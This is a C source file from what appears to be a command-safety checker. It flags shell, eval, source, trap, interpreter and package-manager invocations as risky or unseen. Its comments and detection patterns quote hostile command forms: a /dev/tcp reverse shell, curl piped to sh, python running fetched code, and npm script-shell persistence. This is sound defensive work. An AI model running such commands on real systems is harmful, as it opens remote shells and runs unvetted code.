/* shells.c - shells, eval, source, trap (the script they run is parsed
 * again), other interpreters (their inline code: code.c), version-only
 * programs and package managers. */
#include "core/shell/internal.h"
#include "core/shell/rules.h"
#include "core/shell/rules_common.h"

#include <string.h>
#include <strings.h>

static void shell_stdin(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    const sh_cmd *c = v->c;
    for (int k = 0; k < c->nr; k++) {
        const sh_redir *r = &c->r[k];
        if (r->fd > 0)
            continue;
        if (r->op == SH_R_HEREDOC) {
            if (!r->body_ok) {
                sh_unseen(cx, v, p->name, " reads a here-doc it cannot see");
                return;
            }
            const char *b = c->src + r->body_off;
            if (!r->body_literal && (memchr(b, '`', r->body_len) ||
                                     memmem(b, r->body_len, "$(", 2))) {
                sh_unseen(cx, v, p->name, " runs a here-doc with command output spliced in");
                return;
            }
            sh_run_script(cx, b, r->body_len, "in a here-doc fed to a shell");
            return;
        }
        if (r->op == SH_R_HERESTR) {
            if (r->target.flags & SH_W_OPAQUE) {
                sh_unseen(cx, v, p->name, " runs a here-string it cannot see");
                return;
            }
            sh_run_script(cx, c->text + r->target.off, r->target.len, "in a here-string fed to a shell");
            return;
        }
        if (r->op == SH_R_IN) {
            if (sh_unseen_input(c, &r->target)) {
                sh_unseen(cx, v, p->name, " reads commands from a command's output or the network");
                return;
            }
            sh_verdict(cx, WG_SHELL_RISKY, "bash.runs_script", p->name,
                       " runs a script file the model does not read", NULL, v->via);
            return;
        }
    }
    if (c->piped_in) {
        if (c->pipe_text && c->pipe_text_len >= 0) {
            sh_run_script(cx, c->pipe_text, (size_t)c->pipe_text_len, "echoed into a shell");
            return;
        }
        sh_unseen(cx, v, p->name, " runs commands piped in from another program (curl | sh)");
        return;
    }
    sh_verdict(cx, WG_SHELL_RISKY, "bash.shell", p->name, " starts a shell", NULL, v->via);
}

/* bash -i >& /dev/tcp/H/P 0>&1, exec 3<>/dev/tcp/H/P; bash <&3: a shell
 * wired to a network connection, or reading its commands from a descriptor
 * opened elsewhere, runs text nobody here can see (a reverse shell). */
static int socket_shell(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    const sh_cmd *c = v->c;
    for (int k = 0; k < c->nr; k++) {
        const sh_redir *r = &c->r[k];
        const char *t = c->text + r->target.off;
        if (r->op == SH_R_HEREDOC || r->op == SH_R_HERESTR)
            continue;
        if (strncmp(t, "/dev/tcp/", 9) == 0 || strncmp(t, "/dev/udp/", 9) == 0) {
            sh_unseen(cx, v, p->name, " is connected to a network socket (a remote shell)");
            return 1;
        }
        if (r->op != SH_R_DUP || r->fd > 0 || t[0] < '3' || t[0] > '9')
            continue;
        size_t q = r->target.raw_off;   /* <&3 (stdin) or >&3 (stdout)? */
        while (q > 0 && (c->src[q - 1] == ' ' || c->src[q - 1] == '\t'))
            q--;
        if (r->fd == 0 || (q >= 2 && c->src[q - 1] == '&' && c->src[q - 2] == '<')) {
            sh_unseen(cx, v, p->name, " reads its commands from a descriptor opened elsewhere");
            return 1;
        }
    }
    return 0;
}

/* perl -pi -e '...' FILE, ruby -i: FILE is edited in place. */
static int edits_in_place(const sh_view *v, const sh_program *p)
{
    if (strcmp(p->name, "perl") != 0 && strcmp(p->name, "ruby") != 0)
        return 0;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (t[0] != '-' || t[1] == '-' || !t[1])
            return 0;
        for (int k = 1; t[k]; k++) {
            if (t[k] == 'i')
                return 1;
            if (strchr("0CdDeEFIlmMxrS", t[k]) && !(t[k] == 'S' || t[k] == 'l'))
                break;                  /* the rest of the word is this option's value */
        }
        if (strchr("eE", t[strlen(t) - 1]) && j + 1 < v->end)
            j++;                        /* -e CODE */
    }
    return 0;
}

void sh_rule_shell(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    int j = v->i + 1, script = 0, stdin_mode = 0;
    if (sh_version_query(v))
        return;
    while (j < v->end) {
        const char *t = W(j);
        if (strcmp(t, "--") == 0 || strcmp(t, "-") == 0) {
            j++;
            break;
        }
        if (t[0] != '-' && t[0] != '+')
            break;
        if (t[1] == '-') {
            j += (strcmp(t, "--rcfile") == 0 || strcmp(t, "--init-file") == 0) ? 2 : 1;
            continue;
        }
        int takes = 0;
        for (int k = 1; t[k]; k++) {
            if (t[k] == 'c')
                script = 1;
            else if (t[k] == 's')
                stdin_mode = 1;
            else if (t[k] == 'o' || t[k] == 'O')
                takes = 1;
        }
        j += 1 + takes;
    }
    if (script) {
        if (j >= v->end) {
            if (v->hidden_args)
                sh_unseen(cx, v, p->name, " -c runs the lines xargs reads");
            else
                sh_verdict(cx, WG_SHELL_RISKY, "bash.shell", p->name, " -c without a script", NULL, v->via);
            return;
        }
        if (FL(j) & SH_W_OPAQUE) {
            sh_unseen(cx, v, p->name, " -c runs text it cannot see");
            return;
        }
        if (v->hidden_args && v->repl && strstr(W(j), v->repl)) {
            sh_unseen(cx, v, p->name, " -c runs text xargs fills in");
            return;
        }
        sh_run_script(cx, W(j), v->c->w[j].len, p->via);
        return;
    }
    if (v->hidden_args) {
        sh_unseen(cx, v, p->name, " runs scripts named by xargs input");
        return;
    }
    if (!stdin_mode && j < v->end) {
        if (FL(j) & SH_W_PROCSUB) {
            sh_unseen(cx, v, p->name, " runs the output of a command (<(...))");
            return;
        }
        if (!sh_is_stdin_path(W(j))) {
            if (sh_run_written(cx, v, W(j), v->c->w[j].len))
                return;
            sh_verdict(cx, WG_SHELL_RISKY, "bash.runs_script", p->name,
                       " runs a script file the model does not read", NULL, v->via);
            return;
        }
    }
    if (socket_shell(cx, v, p))
        return;
    shell_stdin(cx, v, p);
}

void sh_rule_source(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    int j = v->i + 1;
    if (j >= v->end)
        return;
    if (FL(j) & SH_W_PROCSUB) {
        sh_unseen(cx, v, p->name, " runs the output of a command (<(...))");
        return;
    }
    if ((sh_is_stdin_path(W(j)) || strcmp(W(j), "-") == 0) && v->c->piped_in) {
        sh_unseen(cx, v, p->name, " runs commands piped in from another program");
        return;
    }
    if (sh_is_stdin_path(W(j)) || strcmp(W(j), "-") == 0) {
        shell_stdin(cx, v, p);          /* source /dev/stdin <<< 'CMD', a here-doc */
        return;
    }
    if (sh_run_written(cx, v, W(j), v->c->w[j].len))
        return;
    sh_verdict(cx, WG_SHELL_RISKY, "bash.runs_script", p->name,
               " runs a script file the model does not read", NULL, v->via);
}

void sh_rule_eval(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    size_t len;
    uint32_t mark;
    (void)p;
    if (v->i + 1 >= v->end)
        return;
    char *buf = sh_join_scratch(cx, v, v->i + 1, v->end, &len, &mark);
    if (!buf) {
        sh_unseen(cx, v, "eval", " runs text it cannot see");
        return;
    }
    sh_run_script(cx, buf, len, "inside eval");
    sh_scratch_release(cx, mark);
}

void sh_rule_trap(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    (void)p;
    int j = v->i + 1;
    if (j < v->end && strcmp(W(j), "--") == 0)
        j++;
    if (j + 1 >= v->end || W(j)[0] == '-')
        return;
    if (FL(j) & SH_W_OPAQUE) {
        sh_unseen(cx, v, "trap", " installs a handler it cannot see");
        return;
    }
    sh_run_script(cx, W(j), v->c->w[j].len, "inside trap");
}

/* python -m MODULE for the standard modules that only print what they read
 * (json.tool, base64, platform, sysconfig, site, tokenize): at most one
 * file operand (json.tool IN OUT would write OUT), options without
 * arguments except --indent N; and python -m pip in pip's read forms (list,
 * show, freeze, check, index, inspect). */
static int python_ro_module(const sh_view *v, const sh_program *p)
{
    static const char *const mods[] = {
        "json.tool", "base64", "platform", "sysconfig", "site", "tokenize", "calendar", NULL,
    };
    static const char *const pip_reads[] = {
        "list", "show", "freeze", "check", "index", "inspect", "--version", "-V", "help", NULL,
    };
    if (strncmp(p->name, "python", 6) != 0 && strcmp(p->name, "pypy") != 0)
        return 0;
    if (v->end - v->i >= 4 && strcmp(W(v->i + 1), "-m") == 0 && strcmp(W(v->i + 2), "pip") == 0 &&
        in_set(W(v->i + 3), pip_reads)) {
        for (int j = v->i + 3; j < v->end; j++)
            if (!sh_word_is_literal(v->c, j))
                return 0;
        return 1;                       /* python3 -m pip list: pip's own read forms */
    }
    if (v->end - v->i < 3 || strcmp(W(v->i + 1), "-m") != 0 || !in_set(W(v->i + 2), mods))
        return 0;
    int operands = 0;
    for (int j = v->i + 3; j < v->end; j++) {
        const char *t = W(j);
        if (!sh_word_is_literal(v->c, j))
            return 0;
        if (strcmp(t, "--indent") == 0 && j + 1 < v->end) {
            j++;
            continue;
        }
        if (t[0] == '-' && t[1] && strchr(t, '=') == NULL)
            continue;
        if (t[0] == '-' && t[1])
            return 0;
        operands++;
    }
    return operands <= 1;
}

void sh_rule_interp(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    if (edits_in_place(v, p) && sh_check_edited(cx, v, p->name))
        return;                         /* perl -pi -e '...' ~/.bashrc */
    if (python_ro_module(v, p)) {
        sh_check_secret_reads(cx, v, p->name);  /* python3 -m json.tool ~/.docker/config.json */
        return;
    }
    static const char *const version[] = { "--version", "-V", "-v", "-version", "version", NULL };
    int nargs = v->end - v->i - 1;
    if (nargs == 1 && in_set(W(v->i + 1), version))
        return;
    if (nargs == 1 && strncmp(p->name, "php", 3) == 0 && strcmp(W(v->i + 1), "-m") == 0)
        return;                         /* php -m lists the compiled-in modules (not -i: it prints the environment) */
    int code = 0, operand = 0, code_args = 0;
    const char *code_text = NULL;
    size_t code_len = 0;
    /* any argument that reads as code: -e CODE, eval CODE, --eval=CODE */
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        size_t n = v->c->w[j].len;
        if (FL(j) & SH_W_PROCSUB) {
            sh_unseen(cx, v, p->name, " runs the output of a command (<(...))");
            return;
        }
        if ((memchr(t, '(', n) || memchr(t, ';', n) || memchr(t, ' ', n) || memchr(t, '`', n) ||
             memchr(t, '{', n)) && sh_code_signal(cx, v, p->name, t, n))
            return;
    }
    if (v->c->piped_in && v->c->pipe_text && v->c->pipe_text_len > 0 &&
        sh_code_signal(cx, v, p->name, v->c->pipe_text, (size_t)v->c->pipe_text_len))
        return;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (t[0] != '-' || strcmp(t, "-") == 0) {
            operand = strcmp(t, "-") != 0;
            break;
        }
        if ((t[1] != '-' && strpbrk(t + 1, "cemprE")) || strcmp(t, "--eval") == 0 ||
            strcmp(t, "--print") == 0) {
            code = 1;
            if (!t[2] && j + 1 < v->end && W(j + 1)[0] == SH_MARK && W(j + 1)[1] == SH_K_CMDSUB &&
                t[1] != 'm') {
                /* python3 -c "$(curl -fsSL URL)": code nobody here can read */
                sh_unseen(cx, v, p->name, " runs code produced by a command ($(...))");
                return;
            }
            for (int k = j + (t[2] && t[1] != '-' ? 0 : 1); k < v->end && k <= j + 1; k++)
                if (k > j || t[2]) {
                    const char *text = k > j ? W(k) : t + 2;
                    size_t len = k > j ? v->c->w[k].len : strlen(t + 2);
                    if (sh_code_signal(cx, v, p->name, text, len))
                        return;
                    /* one plain code word (not $CODE, not a cluster like -Sc)
                     * may later be found to only print */
                    int plain = !(k > j && (FL(k) & SH_W_OPAQUE)) && (t[1] == '-' || strlen(t) == 2);
                    code_text = plain ? text : NULL;
                    code_len = len;
                    code_args = v->end - k - 1;
                }
            break;
        }
    }
    for (int k = 0; k < v->c->nr; k++) {
        const sh_redir *r = &v->c->r[k];
        if (r->op == SH_R_HEREDOC && r->body_ok &&
            sh_code_signal(cx, v, p->name, v->c->src + r->body_off, r->body_len))
            return;
        if (r->op == SH_R_HERESTR &&
            sh_code_signal(cx, v, p->name, v->c->text + r->target.off, r->target.len))
            return;
    }
    if (!code && !operand && v->c->piped_in) {
        sh_unseen(cx, v, p->name, " runs a program piped in from another command");
        return;
    }
    /* python3 -c 'import sys; print(sys.version)', node -p process.versions:
     * one code word, nothing after it, no here-doc or pipe feeding it */
    if (code_text && code_args == 0 && v->c->nr == 0 && !v->c->piped_in &&
        sh_code_prints_only(p->name, code_text, code_len))
        return;
    sh_verdict(cx, WG_SHELL_RISKY, "bash.interpreter", p->name,
               " runs code the shell model does not analyse", NULL, v->via);
}

/* Compilers' query options: `rustc --print sysroot`, `gcc -print-search-dirs`,
 * `clang --print-resource-dir`, `gcc -dumpmachine`: they print and build
 * nothing. */
static int compiler_query(const sh_view *v)
{
    if (v->end - v->i < 2)
        return 0;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (FL(j) & SH_W_OPAQUE)
            return 0;
        if (strcmp(t, "--print") == 0 && j + 1 < v->end && W(j + 1)[0] != '-') {
            j++;
            continue;
        }
        if (strncmp(t, "--print", 7) == 0 || strncmp(t, "-print-", 7) == 0 || strncmp(t, "-dump", 5) == 0 ||
            strcmp(t, "-v") == 0 || strcmp(t, "--version") == 0)
            continue;
        return 0;
    }
    return 1;
}

void sh_rule_version_only(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    if (sh_version_query(v) || compiler_query(v))
        return;
    sh_verdict(cx, WG_SHELL_RISKY, "bash.unknown_program", p->name,
               " does more than print its version", NULL, v->via);
    sh_probe_args(cx, v, v->i + 1);
}

/* Is w one of the words from j to the end of the command? */
static int has_word_from(const sh_view *v, int j, const char *w)
{
    for (; j < v->end; j++)
        if (strcmp(W(j), w) == 0 || (FL(j) & SH_W_OPAQUE))
            return 1;           /* an opaque word may be it */
    return 0;
}

/* npm/pnpm/yarn configuration keys whose value is a program (or its
 * options) run on a later command: `npm config set script-shell X` makes
 * every later `npm run` run X. KEY or KEY=VALUE. */
static int runs_later_key(const char *t)
{
    static const char *const keys[] = {
        "script-shell", "shell", "node-options", "git", "editor", "browser", "viewer", "onload-script",
        "scriptShell", "nodeOptions",
    };
    size_t n = strcspn(t, "=");
    for (size_t i = 0; i < sizeof keys / sizeof *keys; i++)
        if (strlen(keys[i]) == n && strncasecmp(t, keys[i], n) == 0)
            return 1;
    return 0;
}

void sh_rule_pkg(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    static const char *const version[] = { "--version", "-V", "-v", "version", NULL };
    static const char *const readonly[] = {
        "ls", "list", "view", "info", "show", "outdated", "freeze", "help", "search",
        "why", "explain", "config-get", "index", "check", NULL,
    };
    static const char *const publish[] = {
        "publish", "unpublish", "deprecate", "owner", "dist-tag", "access", "adduser",
        "login", "token", "upload", "yank", NULL,
    };
    int j = v->i + 1;
    while (j < v->end && W(j)[0] == '-') {
        if (in_set(W(j), version) && j + 1 == v->end)
            return;
        j++;
    }
    if (j < v->end && in_set(W(j), publish)) {
        sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.publish", p->name, " ", W(j), v->via);
        return;
    }
    if (j < v->end && in_set(W(j), readonly) && !(FL(j) & SH_W_OPAQUE))
        return;
    /* npm run (or run-script) alone lists the package's scripts */
    if (j + 1 == v->end && (strcmp(W(j), "run") == 0 || strcmp(W(j), "run-script") == 0))
        return;
    /* npm audit reports; npm audit fix changes the lock file and node_modules */
    if (j < v->end && strcmp(W(j), "audit") == 0 && !has_word_from(v, j + 1, "fix") &&
        !has_word_from(v, j + 1, "--fix"))
        return;
    if (j + 1 < v->end && (strcmp(W(j), "config") == 0 || strcmp(W(j), "pkg") == 0) &&
        (strcmp(W(j + 1), "get") == 0 || strcmp(W(j + 1), "list") == 0 || strcmp(W(j + 1), "ls") == 0))
        return;                         /* npm config get, npm pkg get version */
    if (j + 1 == v->end && strcmp(W(j), "env") == 0 && strcmp(p->name, "gem") == 0)
        return;                         /* gem env */
    if (j + 2 < v->end && strcmp(W(j), "config") == 0 && strcmp(W(j + 1), "set") == 0 &&
        runs_later_key(W(j + 2))) {
        sh_verdict(cx, WG_SHELL_CRITICAL, "critical.persistence", p->name,
                   " config set names a program it runs later (script-shell, node-options, ...)", NULL, v->via);
        return;
    }
    sh_verdict(cx, WG_SHELL_RISKY, "bash.package_manager", p->name,
               " installs or runs packages", NULL, v->via);
    sh_probe_args(cx, v, j);
}
